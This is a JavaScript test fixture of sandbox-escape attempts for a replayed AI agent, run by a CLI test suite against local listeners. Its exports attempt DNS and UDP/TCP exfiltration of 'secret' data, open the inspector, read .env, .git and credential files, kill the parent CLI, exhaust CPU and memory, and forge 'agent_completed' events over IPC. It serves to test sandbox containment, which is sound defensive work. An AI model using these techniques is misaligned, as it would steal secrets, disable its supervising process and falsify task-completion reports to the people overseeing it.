// Attacks a replayed agent can try, one export each (run by test/cli/sandbox-attacks.test.ts through the built CLI).
// Every export reports what happened instead of throwing, so the test can see each attempt's outcome.
import dgram from 'node:dgram';
import dns from 'node:dns';
import { readFileSync } from 'node:fs';
import http2 from 'node:http2';
import inspector from 'node:inspector';
import net from 'node:net';

const code = (err) => (err && typeof err === 'object' && 'code' in err ? String(err.code) : String(err));
const attempt = async (fn) => {
  try {
    return { ok: true, value: await fn() };
  } catch (err) {
    return { ok: false, code: code(err) };
  }
};
/** a real-time pause that does not depend on (fast-forwarded) timers */
const pause = (ms) => Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, ms);

export async function benign() {
  return { ok: true };
}

/** DNS exfiltration: queries to a resolver the attacker names (the test's own UDP listener) */
export async function dnsExfiltration({ udpPort }) {
  const server = `127.0.0.1:${udpPort}`;
  const resolver = new dns.Resolver();
  const results = {};
  results.setServers = await attempt(() => resolver.setServers([server]));
  results.resolverTxt = await attempt(
    () => new Promise((res, rej) => resolver.resolveTxt('secret-1.exfil.test', (e, r) => (e ? rej(e) : res(r)))),
  );
  const promises = new dns.promises.Resolver();
  results.promisesSetServers = await attempt(() => promises.setServers([server]));
  results.promisesTxt = await attempt(() => promises.resolveTxt('secret-2.exfil.test'));
  results.lookup = await attempt(() => dns.promises.lookup('secret-3.exfil.test'));
  results.resolve4 = await attempt(
    () => new Promise((res, rej) => dns.resolve4('secret-4.exfil.test', (e, r) => (e ? rej(e) : res(r)))),
  );
  return results;
}

/** UDP straight out, through the constructor and the factory */
export async function udpOut({ udpPort }) {
  const send = (make) =>
    attempt(
      () =>
        new Promise((res, rej) => {
          const s = make();
          s.on('error', rej);
          s.send(Buffer.from('secret-udp'), udpPort, '127.0.0.1', (e) => (e ? rej(e) : res('sent')));
        }),
    );
  return { ctor: await send(() => new dgram.Socket('udp4')), factory: await send(() => dgram.createSocket('udp4')) };
}

/** TCP out to the test's listener, and an inbound listener the test tries to connect to */
export async function tcpOutAndListen({ tcpPort, listenPort }) {
  const out = await attempt(
    () =>
      new Promise((res, rej) => {
        const s = net.connect(tcpPort, '127.0.0.1', () => res('connected'));
        s.on('error', rej);
      }),
  );
  const listen = await attempt(
    () =>
      new Promise((res, rej) => {
        const server = net.createServer((c) => c.end('hello from the sandbox'));
        server.on('error', rej);
        server.listen(listenPort, '127.0.0.1', () => res('listening'));
      }),
  );
  if (listen.ok) pause(3_000); // the test connects meanwhile
  return { out, listen };
}

/** Other ways out: HTTP/2, WebSocket, the inspector, raw bindings */
export async function otherExits({ tcpPort }) {
  return {
    http2: await attempt(() => {
      const s = http2.connect(`http://127.0.0.1:${tcpPort}`);
      return new Promise((res, rej) => {
        s.on('connect', () => res('connected'));
        s.on('error', rej);
      });
    }),
    websocket: await attempt(() => {
      if (typeof WebSocket !== 'function') return 'absent';
      const ws = new WebSocket(`ws://127.0.0.1:${tcpPort}`);
      return new Promise((res, rej) => {
        ws.onopen = () => res('open');
        ws.onerror = () => rej(new Error('ws error'));
      });
    }),
    inspectorOpen: await attempt(() => inspector.open(0)),
    inspectorSession: await attempt(() => new inspector.Session().connect()),
    binding: await attempt(() => process.binding('tcp_wrap')),
  };
}

/** Reads of data next to the agent: the store (and its WAL), .env, .git, the home folder's credentials */
export async function readData({ files }) {
  const out = {};
  for (const [name, path] of Object.entries(files)) {
    out[name] = await attempt(() => readFileSync(path, 'utf8').length);
  }
  out.processEnvKeys = Object.keys(process.env).sort();
  return out;
}

/** Kill the CLI, then burn CPU */
export async function killParent() {
  const kill = await attempt(() => process.kill(process.ppid, 'SIGKILL'));
  const group = await attempt(() => process.kill(0, 'SIGKILL'));
  if (kill.ok) for (;;) {}
  return { kill, group };
}

/** Burn CPU forever, event loop blocked */
export async function spin() {
  for (;;) {}
}

/** Memory outside the V8 heap: Buffers until ~1.5 GB */
export async function hoardBuffers() {
  const keep = [];
  for (let i = 0; i < 48; i++) {
    keep.push(Buffer.alloc(32 * 1024 * 1024, 1));
    pause(30);
  }
  return { allocatedMb: keep.length * 32 };
}

/** Forge events over the IPC channel */
export async function forgeIpc() {
  process.send?.({ type: 'append', id: 999, events: [{ type: 'agent_completed' }] });
  pause(500);
  return { ok: true };
}
